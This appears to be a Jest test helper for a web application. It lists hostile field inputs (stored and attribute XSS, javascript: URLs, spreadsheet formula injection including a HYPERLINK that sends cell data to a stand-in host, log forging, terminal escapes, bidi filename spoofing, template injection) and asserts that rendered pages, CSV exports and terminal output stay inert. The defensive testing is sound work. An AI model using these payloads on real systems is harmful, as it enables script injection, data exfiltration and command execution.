import { expect } from '@jest/globals';
import { attribute, unescapeHtml } from '../http/forms.js';

/** What hostile people write into fields, by what it is after. */
export const probes: Readonly<Record<string, string>> = {
  'stored script': `x"><script>probe()</script><img src=x onerror=probe()>`,
  'script in an attribute': `x" onmouseover="probe()" y='`,
  'script address': 'javascript:probe()',
  'end of a text area': '</textarea></title><script>probe()</script>',
  formula: '=HYPERLINK("https://evil.test/?"&A1,"x")',
  'formula by sign': '+cmd|calc!A0',
  'formula by at': '@SUM(1+1)*cmd',
  'forged line': 'x\r\n{"level":"error","event":"forged"}\r\n2026-11-20 forged',
  terminal: 'x\u001B[31mred\u001B]0;title\u0007\u009B2J',
  'turned around': 'x\u202Egpj.exe\u2066\u202D',
  NUL: 'x\0y',
  'very long': 'probe '.repeat(20_000),
  'long word': 'W'.repeat(900),
  'lone surrogate': 'x\uD800y\uDC00',
  template: '{{1301*3}}${1301*3}<%= 1301*3 %>#{1301*3}{% raw %}%s%n',
};

export interface FoundForm {
  readonly action: string;
  readonly method: 'GET' | 'POST';
  readonly fields: Readonly<Record<string, string>>;
  /** Names of the fields that people write into. */
  readonly texts: readonly string[];
}

const written = /^(?:text|search|email|url|tel|number|date|datetime-local|time)$/;

/** Every form of a page, filled in as a browser would have it before anybody typed. */
export function formsOf(page: string, here: string): readonly FoundForm[] {
  return (page.match(/<form\b[^>]*>[\s\S]*?<\/form>/g) ?? []).map((form) => {
    const head = /<form\b[^>]*>/.exec(form)?.[0] ?? '';
    const fields: Record<string, string> = {};
    const texts: string[] = [];
    for (const tag of form.match(/<input\b[^>]*>/g) ?? []) {
      const [name, type] = [attribute(tag, 'name') ?? '', attribute(tag, 'type') ?? 'text'];
      if (/^(?:radio|checkbox)$/.test(type) ? /\schecked\b/.test(tag) || !(name in fields) : type !== 'file')
        fields[name] = attribute(tag, 'value') ?? '';
      if (written.test(type)) texts.push(name);
    }
    for (const [, head = '', text = ''] of form.matchAll(
      /(<textarea\b[^>]*>)\n?([\s\S]*?)<\/textarea\s*>/g,
    )) {
      const name = attribute(head, 'name') ?? '';
      fields[name] = unescapeHtml(text);
      texts.push(name);
    }
    for (const [, head = '', options = ''] of form.matchAll(/(<select\b[^>]*>)([\s\S]*?)<\/select>/g)) {
      const chosen = /<option[^>]*\sselected/.exec(options)?.[0] ?? /<option[^>]*>/.exec(options)?.[0] ?? '';
      fields[attribute(head, 'name') ?? ''] = attribute(chosen, 'value') ?? '';
    }
    return {
      action: attribute(head, 'action') ?? here,
      method: attribute(head, 'method')?.toUpperCase() === 'POST' ? 'POST' : 'GET',
      fields,
      texts,
    };
  });
}

const tags = /<([a-zA-Z][^\s/>]*)((?:\s+[^\s=>"'/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>"']+))?|\s*\/)*)\s*>/g;
const controls = /[^\P{Cc}\t\n\r]/u;

/** Holds that nothing in a page runs, counts or moves but what we wrote. */
export function expectInertPage(page: string): void {
  // What is left once well-formed tags, whose attributes are judged below, are taken out is text: no tag begins in it.
  const text = page
    .replace(/<!doctype html>/i, '')
    .replaceAll(/<\/[a-z][a-z0-9]*\s*>/g, '')
    .replaceAll(tags, '');
  expect(text).not.toContain('<');
  for (const [, name = '', attributes = ''] of page.matchAll(tags)) {
    expect(attributes.replaceAll(/=\s*(?:"[^"]*"|'[^']*')/g, '')).not.toMatch(/\bon[a-z]+/i);
    expect(attributes).not.toMatch(/(?:href|src|action)\s*=\s*"\s*javascript:/i);
    if (name === 'script') expect(attributes).toMatch(/\ssrc="\/assets\/|\snonce="/);
    if (name === 'img') expect(attributes).toMatch(/src="(?:\/|data:)/);
  }
  expect(page).not.toContain('3903');
  expect(page).not.toMatch(controls);
}

/** Holds that no cell is a formula for any spreadsheet, and that no text made lines of its own. */
export function expectInertCsv(csv: string): void {
  const cells = [...csv.matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)];
  expect(cells.length).toBeGreaterThan(10);
  for (const [, quoted, bare = ''] of cells) expect(quoted ?? bare).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
}

/** Holds that nothing moves a terminal's cursor, colours, or turns the writing around. */
export function expectInertTerminal(text: string): void {
  expect(text).not.toMatch(controls);
  expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
}
